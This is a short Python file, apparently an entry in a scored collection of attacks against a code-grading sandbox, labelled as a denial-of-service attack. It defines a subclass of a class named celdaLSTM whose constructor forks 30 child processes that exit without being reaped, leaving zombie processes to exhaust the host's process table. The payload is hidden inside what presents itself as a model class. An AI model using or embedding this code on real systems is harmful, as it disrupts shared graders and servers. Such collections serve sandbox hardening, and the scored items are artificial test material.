# /// attack
# title = "Zombies that nobody waits for"
# group = "Denial of service"
# verdict = "OK"
# points = 100
# ///
import os


class celdaLSTM(celdaLSTM):
    def __init__(self, *sizes):
        super().__init__(*sizes)
        try:
            for _ in range(30):
                if os.fork() == 0:
                    os._exit(0)
        except OSError:
            pass
